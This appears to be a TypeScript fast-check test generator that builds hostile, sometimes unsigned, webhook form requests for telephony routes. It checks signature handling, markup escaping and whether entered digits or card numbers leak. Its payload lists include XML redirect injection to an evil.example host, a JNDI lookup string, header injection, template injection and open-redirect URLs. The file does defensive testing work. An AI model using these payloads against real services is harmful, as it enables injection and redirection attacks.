import fc from "fast-check";

/** A request to a telephony route, as its sender might make it up. Nothing in it is signed yet. */
export type HostileForm = {
  readonly path: string;
  /** Encoded, or as wrong as it came. */
  readonly query: string;
  /** Whether the URL is to be one that was rendered by us, with what stands in the query. */
  readonly isRendered: boolean;
  readonly fields: readonly (readonly [name: string, value: string])[];
  /** A key that was pressed, or words that were spoken: to be found nowhere. */
  readonly secrets: readonly string[];
  readonly signature: "right" | "wrong" | "missing";
  readonly contentType: string;
  /** Bytes that stand behind the encoded fields, and are not signed. */
  readonly tail: string;
};

export const formType = "application/x-www-form-urlencoded";
const routes = ["/telephony/join", "/telephony/menu", "/telephony/digits", "/telephony/events"];

const markup = [
  '"><Hangup/><x y="',
  "</Say><Redirect>https://evil.example</Redirect>",
  "<![CDATA[<Hangup/>]]>",
  "&evil; &#0; &amp;amp;",
  "]]><!-- -->",
  "<?xml version='1.0'?>",
  "\\u003cHangup/>",
  "a\u0000b\u0008\u000b\ufffe\uffff",
  "\r\nX-Injected: 1\r\n",
  "\u202e\u2028\ufeff",
  "$" + "{jndi:ldap://evil.example}",
  "{{7*7}}",
  "%00%0a%3c",
  "__proto__",
  "constructor",
  "x".repeat(65),
  "ä".repeat(64),
  "👩‍👩‍👧‍👦",
];
const urls = [
  "https://ivr.example/card?a=1&b=<2>",
  "https://evil.example/",
  "https://ivr.example@evil.example/",
  "https://ivr.example\\@evil.example/",
  "//ivr.example/",
  "javascript:alert(1)",
  "https://ivr.example.evil.example/",
  "https://user:secret@ivr.example/",
];
const wellFormed = (text: string): string => text.toWellFormed();
const hostile = fc.oneof(
  fc.constantFrom(...markup, ...urls),
  fc.string({ unit: "binary", maxLength: 40 }).map(wellFormed),
  fc.string({ unit: "grapheme", maxLength: 40 }),
);

/** More than two different ones, so that it can be looked for. */
const manyDigits = fc.stringMatching(/^[0-9*#]{8,24}$/).filter((digits) => new Set(digits).size > 3);
const cards = fc.constantFrom(
  "4111111111111111",
  "4111 1111 1111 1111",
  "5555-5555-5555-4444",
  "378282246310005",
);
const words = fc.uuid().map((id) => `my card is ${id}`);

function ids(known: readonly string[]) {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...known) },
    { weight: 1, arbitrary: fc.constantFrom(...known).map((id) => id.toUpperCase()) },
    { weight: 1, arbitrary: fc.uuid() },
    { weight: 1, arbitrary: hostile },
  );
}

/** Otherwise undefined. */
const onceIn = <Value>(times: number, value: fc.Arbitrary<Value>): fc.Arbitrary<Value | undefined> =>
  fc.oneof({ weight: times - 1, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: value });

/** Forms about the given project and conference, most of them signed, all of them odd. */
export function hostileForms(project: string, conference: string): fc.Arbitrary<HostileForm> {
  const sometimes = <Value>(value: fc.Arbitrary<Value>) => onceIn(2, value);
  const rooms = fc.oneof(fc.constant("support"), hostile);
  const targets = fc.oneof(fc.constantFrom(...urls), hostile);
  const query = fc.record({
    room: onceIn(3, rooms),
    conference: onceIn(3, ids([conference])),
    role: sometimes(fc.constantFrom("agent", "caller", "control", "<admin>")),
    then: sometimes(targets),
    else: sometimes(targets),
    mac: onceIn(8, hostile),
    exp: onceIn(8, fc.constantFrom("0", "9999999999", "-1", "NaN", "1e9")),
    announce: onceIn(8, fc.constantFrom("paused", "resumed", "x")),
  });
  const form = fc.record({
    AccountSid: fc.oneof(
      { weight: 9, arbitrary: fc.constantFrom(project, project.toUpperCase()) },
      { weight: 1, arbitrary: hostile },
    ),
    CallSid: ids(["b3877c40-da60-4998-90ad-b792e98472ca"]),
    CallStatus: sometimes(fc.constantFrom("in-progress", "completed", "<x>")),
    Digits: fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom("1", "2", "3", "1#") },
      { weight: 1, arbitrary: fc.constantFrom(undefined, "", "#", "9") },
      { weight: 2, arbitrary: fc.oneof(manyDigits, cards, hostile) },
    ),
    SpeechResult: sometimes(words),
    ConferenceSid: sometimes(ids([conference])),
    FriendlyName: sometimes(rooms),
    RecordingSid: sometimes(ids(["33333333-3333-4333-8333-333333333331"])),
    RecordingStatus: sometimes(fc.constantFrom("in-progress", "completed", "complete", "failed", "<x>")),
    RecordingUrl: sometimes(fc.constant("https://media.example/secret-recording")),
    StatusCallbackEvent: sometimes(
      fc.constantFrom("conference-start", "conference-end", "participant-join", "participant-leave", "<x>"),
    ),
  });
  // A name that sorts before the first one that is signed proves nothing, so most sort behind it.
  const name = fc.oneof(
    { weight: 9, arbitrary: hostile.map((text) => `Tag${text}`) },
    { weight: 1, arbitrary: hostile },
  );
  const more = fc.array(fc.tuple(name, hostile), { maxLength: 3 });
  return fc
    .record({
      path: fc.oneof(
        { weight: 12, arbitrary: fc.constantFrom(...routes) },
        { weight: 1, arbitrary: fc.constantFrom("/telephony/nowhere", "/telephony/__proto__") },
      ),
      query,
      isRendered: fc.nat({ max: 3 }).map((chance) => chance === 0),
      rest: onceIn(16, fc.constantFrom("&room", "&=", "&&", "&%", "&a=%ff", "&b=%zz")),
      form,
      more,
      repeated: onceIn(12, fc.constantFrom("Digits", "AccountSid", "CallSid")),
      signature: fc.constantFrom<HostileForm["signature"][]>(
        "right",
        "right",
        "right",
        "right",
        "right",
        "wrong",
        "missing",
      ),
      contentType: fc.oneof(
        { weight: 12, arbitrary: fc.constantFrom(formType, `${formType}; charset=UTF-8`) },
        { weight: 1, arbitrary: fc.constantFrom("application/json", "text/xml", "multipart/form-data") },
      ),
      tail: onceIn(16, fc.constantFrom("&%", "&a=%ff", "&Digits=3")),
    })
    .map(({ query: parameters, rest = "", tail = "", form: given, more: others, repeated, ...one }) => {
      const fields = [...pairs(given), ...others];
      const again = fields.filter(([name]) => name === repeated);
      const secrets = [given.Digits, given.SpeechResult].filter(isSecret);
      return {
        ...one,
        tail,
        query: encoded(pairs(parameters)) + rest,
        fields: [...fields, ...again],
        secrets,
      };
    });
}

/** The body as it goes over the wire. */
export const bodyOf = ({ fields, tail }: HostileForm): string => encoded(fields) + tail;

const pairs = (record: object): readonly (readonly [string, string])[] =>
  Object.entries(record).filter((pair): pair is [string, string] => typeof pair[1] === "string");

const encoded = (fields: readonly (readonly [string, string])[]): string =>
  fields.map(([name, value]) => `${encodeURIComponent(name)}=${encodeURIComponent(value)}`).join("&");

/** Long and odd enough to be found nowhere by chance. */
const isSecret = (text: string | undefined): text is string =>
  text !== undefined && text.length >= 8 && new Set(text).size > 3;
